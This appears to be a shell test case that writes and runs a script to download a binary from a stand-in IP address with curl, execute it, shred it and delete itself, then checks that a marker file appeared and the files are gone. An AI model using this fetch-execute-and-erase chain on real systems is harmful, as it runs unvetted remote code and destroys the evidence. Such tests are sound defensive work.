#!/bin/sh
. /opt/case/case.sh

cat >/tmp/init.sh <<'END'
curl -s http://203.0.113.10/programs/marker -o /tmp/.m
chmod +x /tmp/.m
/tmp/.m
shred -u /tmp/.m
rm -f -- "$0"
END
sh /tmp/init.sh
test -e /tmp/reached && test ! -e /tmp/init.sh && test ! -e /tmp/.m
took_place
